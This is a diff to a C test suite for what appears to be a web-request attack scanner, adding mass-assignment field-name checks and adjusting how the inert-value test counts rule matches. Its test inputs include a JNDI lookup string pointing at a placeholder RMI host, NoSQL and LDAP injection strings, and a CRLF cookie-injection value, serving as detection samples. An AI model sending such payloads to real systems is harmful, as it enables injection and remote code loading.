@@ -161,6 +161,12 @@ test_categories(void)
 	hit(PF_CLASS_headers, "${${lower:j}${::-n}di:rmi://x.example/a}", CAT(jndi));
 	hit(PF_CLASS_names, "password[$ne]", CAT(nosqli));
 	hit(PF_CLASS_names, "$where", CAT(nosqli));
+	hit(PF_CLASS_names, "role", CAT(massassign));
+	hit(PF_CLASS_names, "is_admin", CAT(massassign));
+	hit(PF_CLASS_names, "tier", CAT(massassign));
+	CHECK(cats_of(PF_CLASS_values, "role") == 0, "the value 'role' is inert");
+	CHECK(cats_of(PF_CLASS_names, "type") == 0 && cats_of(PF_CLASS_names, "scope") == 0 &&
+			cats_of(PF_CLASS_names, "rating") == 0, "ordinary names are no mass assignment");
 	hit(PF_CLASS_values, "'; return this.password.match(/^a/); var x='", CAT(nosqli));
 	hit(PF_CLASS_values, "*)(uid=*))(|(uid=*", CAT(ldapi));
 	hit(PF_CLASS_values, "en%0d%0aSet-Cookie:%20admin=1", CAT(crlf));
@@ -195,13 +201,15 @@ static int
 any_match(unsigned int id, unsigned long long from, unsigned long long to, unsigned int fl,
 		void *c)
 {
-	(void)id, (void)from, (void)to, (void)fl;
-	*(int *)c = 1;
-	return 1;
+	(void)from, (void)to, (void)fl;
+	if (engine->rules[id].classes != 1u << PF_CLASS_names)
+		*(int *)c = 1;
+	return 0;
 }
 
 /* The scanner skips short word-only values and UUIDs as inert (prefilter.c):
- * no rule may be able to fire on one, or skipping would hide it. */
+ * no rule may be able to fire on one, or skipping would hide it. Names are
+ * never inert: a rule that reads names alone may match a short word. */
 static void
 test_inert_values_stay_silent(void)
 {
